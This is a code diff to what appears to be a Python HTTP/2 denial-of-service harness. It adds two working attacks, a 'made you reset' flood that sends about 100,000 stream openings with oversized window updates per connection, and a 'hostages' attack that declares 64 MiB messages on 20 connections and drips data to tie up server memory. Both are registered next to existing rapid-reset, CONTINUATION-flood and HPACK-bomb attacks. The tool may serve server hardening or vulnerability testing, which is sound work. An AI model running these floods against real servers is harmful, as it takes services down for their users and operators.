@@ -128,6 +128,7 @@ class Peer:
     greeting: bytes = PREFACE + frame(SETTINGS, 0, 0)
     deaf: bool = False
     cut: bool = False
+    acknowledged: int = -1  # our SETTINGS, the greeting's aside
     _torn: bool = False  # less than a frame was sent
     _said: str = ""  # GOAWAY
     _unread: bytes = b""
@@ -189,6 +190,8 @@ class Peer:
     def _take(self, kind: int, flags: int, payload: bytes) -> None:
         if kind == GOAWAY:
             self._said = f"GOAWAY {CODES[int.from_bytes(payload[4:8], 'big')]}"
+        elif kind == SETTINGS:
+            self.acknowledged += flags & ACK
         elif kind == RST_STREAM:
             self.words[f"RST {CODES[int.from_bytes(payload, 'big')]}"] += 1
         elif kind == HEADERS:
@@ -252,6 +255,41 @@ def rapid_reset(address: str) -> Words:
         peer.wait(0.2)
 
     return over_and_over(attack, address)
+
+
+def made_you_reset(address: str) -> Words:
+    """100,000 streams a connection, each of which the server resets, since its window is opened too far."""
+    grow = u32(LARGEST_WINDOW)
+    whole = b"".join(frame(HEADERS, END_HEADERS, n, BLOCK) + frame(WINDOW_UPDATE, 0, n, grow) for n in range(1, 200_000, 2))
+
+    def attack(peer: Peer) -> None:
+        peer.send(whole)
+        peer.words["streams"] += 100_000
+        peer.wait(0.2)
+
+    return over_and_over(attack, address)
+
+
+def hostages(address: str) -> Words:
+    """20 connections that declare messages of 64 MiB, send 20 of each, and stop."""
+    words: Words = Counter()
+    peers = [Peer(address, words) for _ in range(20)]
+    piece = data(1, bytes(256 << 10), end=False) + frame(SETTINGS, 0, 0)  # their acknowledgement says that the windows are open again
+    for peer in peers:
+        peer.wait(0.05)
+        peer.send(frame(SETTINGS, ACK, 0) + frame(HEADERS, END_HEADERS, 1, BLOCK) + data(1, struct.pack(">BI", 0, 64 << 20), end=False))
+        for number in range(1, 81):
+            peer.send(piece)
+            while peer.acknowledged < number and not peer.cut and not stopped():
+                peer.wait(0.01)
+        words["MiB held"] += 20
+    going()
+    while not stopped():
+        for peer in peers:
+            peer.wait(0.01)
+    for peer in peers:
+        peer.close()
+    return words
 
 
 def continuation_flood(address: str) -> Words:
@@ -534,6 +572,8 @@ def stopped_clients(address: str) -> Words:
 
 ATTACKS: dict[str, Callable[[str], Words]] = {
     "rapid reset": rapid_reset,
+    "resets that the server is made to send": made_you_reset,
+    "large messages declared and not sent": hostages,
     "CONTINUATION flood": continuation_flood,
     "CONTINUATION flood of headers": continuation_flood_of_headers,
     "HPACK bomb": hpack_bomb,
